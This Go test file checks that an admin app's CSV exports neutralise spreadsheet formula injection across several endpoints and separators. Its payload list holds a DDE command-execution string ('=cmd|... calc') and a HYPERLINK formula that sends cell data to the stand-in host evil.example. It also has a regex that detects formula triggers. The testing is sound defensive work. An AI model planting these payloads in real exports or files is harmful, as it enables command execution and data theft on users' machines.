package security_test

import (
	"encoding/csv"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"tallyfy-admin/handlers/directory"
	"tallyfy-admin/handlers/sitetest"
)

// formula is what a spreadsheet program would carry out: at the begin of a cell, or behind what it may take for the end of one.
var formula = regexp.MustCompile(`(^|[;\t\r\n])[\s\x{feff}\x{200b}\x{a0}]*[=+\-@＝＋－＠]`)

// formulaBehindComma also takes a comma for the end of a cell: with semicolons such cells are not quoted.
var formulaBehindComma = regexp.MustCompile(`(^|[,;\t\r\n])[\s\x{feff}\x{200b}\x{a0}]*[=+\-@＝＋－＠]`)

func TestNoFileHoldsAFormula(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	attack := ""
	wire := &rewriter{text: func(key, was string) string {
		if key == "id" || was == "" || strings.HasSuffix(key, "_at") || key == "last_updated" {
			return was
		}
		mu.Lock()
		defer mu.Unlock()
		return attack + was
	}}
	s := sitetest.New(t, sitetest.Options{Transport: wire, Directory: directory.Options{MaxAge: time.Nanosecond, Stale: time.Nanosecond}})
	wire.next = s.Sandbox.Transport()
	s.SignIn()
	for _, next := range []string{
		"=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "\u200b@x", "＝1", "＋1", "－1", "＠x", "x;=1", "x\r\n=1", "x\t=1", "x; \u200b=1", "x,=1", "x, \u200b@1",
		`",=1`, `"&=1`, "';=1", "=HYPERLINK(\"https://evil.example/?\"&A1)", "%0A=1", "|=1",
	} {
		mu.Lock()
		attack = next
		mu.Unlock()
		for _, path := range []string{"/groups.csv", "/members.csv", "/guests.csv", s.GroupPath("Operations") + "/people.csv", "/members.csv?separator=semicolon", "/groups.csv?separator=comma"} {
			p := s.Get(path)
			assert.Equal(t, "text/csv; charset=utf-8", p.Header.Get("Content-Type"))
			assert.Equal(t, "nosniff", p.Header.Get("X-Content-Type-Options"))
			assert.True(t, strings.HasPrefix(p.Header.Get("Content-Disposition"), "attachment; "))
			assert.Equal(t, "no-store", p.Header.Get("Cache-Control"))
			reader, runs := csv.NewReader(strings.NewReader(strings.TrimPrefix(p.Body, "\ufeff"))), formula
			if strings.HasSuffix(path, "semicolon") {
				reader.Comma, runs = ';', formulaBehindComma
			}
			rows, err := reader.ReadAll()
			require.NoError(t, err)
			require.Greater(t, len(rows), 3, path)
			hit := 0
			for _, cell := range slices.Concat(rows[1:]...) {
				assert.NotRegexp(t, runs, cell, "%s with %q", path, next)
				if strings.Contains(strings.NewReplacer("'", "", "\r\n", "", "\n", "").Replace(cell), strings.NewReplacer("'", "", "\r\n", "", "\n", "", "\r", "").Replace(next)) {
					hit++
				}
			}
			assert.NotZero(t, hit, "%s does not hold %q", path, next)
		}
	}
	assert.Regexp(t, formula, "=1") // the question itself is a sharp one
	assert.Regexp(t, formula, "x;\u200b＠y")
	assert.NotRegexp(t, formula, "a-b; 'x")
}
